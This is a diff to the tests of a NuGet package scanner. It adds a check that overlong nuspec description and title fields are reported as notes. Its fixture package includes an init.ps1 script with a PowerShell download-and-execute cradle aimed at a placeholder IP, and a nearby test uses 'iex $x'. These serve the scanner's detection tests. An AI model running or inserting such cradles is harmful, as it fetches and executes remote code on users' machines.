@@ -59,6 +59,39 @@ def test_missing_nuspec() -> None:
     assert by_rule(report)["NS9003"][0].severity is Severity.ERROR
 
 
+def _long_description_nupkg() -> bytes:
+    meta = (
+        '<?xml version="1.0" encoding="utf-8"?>\n<package><metadata><id>Contoso.Verbose</id><version>2.0.0</version>'
+        f"<authors>nuseal tests</authors><description>{'A long description. ' * 300}</description>"
+        f"<title>{'T' * 300}</title></metadata></package>"
+    ).encode()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("Contoso.Verbose.nuspec", meta)
+        z.writestr("tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/x')")
+    return buf.getvalue()
+
+
+def test_nuspec_fields_over_nuget_org_limits_are_notes_and_the_package_keeps_its_identity(tmp_path: Path) -> None:
+    data = _long_description_nupkg()
+    report = scan_bytes(data)
+    assert (report.package.id, report.package.version) == ("Contoso.Verbose", "2.0.0")
+    found = by_rule(report)
+    assert "NS9003" not in found
+    notes = found["NS9009"]
+    assert {f.severity for f in notes} == {Severity.NOTE}
+    assert any("<description> is 5999 characters; the limit is 4000" in f.message for f in notes)  # trimmed
+    assert any("<title> is 300 characters" in f.message for f in notes)
+    assert {f.location.path for f in notes} == {"Contoso.Verbose.nuspec"}
+    assert "NS1110" in found  # the package's content was analysed as usual
+    # the same from an extracted folder
+    folder = tmp_path / "contoso.verbose" / "2.0.0"
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        z.extractall(folder)
+    from_folder = Scanner(load_rules()).scan(ScanPackage.from_folder(folder))
+    assert from_folder.package.id == "Contoso.Verbose" and "NS9009" in by_rule(from_folder)
+
+
 def test_corrupt_entry_is_reported_and_the_rest_scanned() -> None:
     data = bytearray(make_nupkg("P", files={"tools/install.ps1": "Write-Host hi " * 50, "tools/init.ps1": "iex $x"}))
     # flip a byte inside install.ps1's compressed data
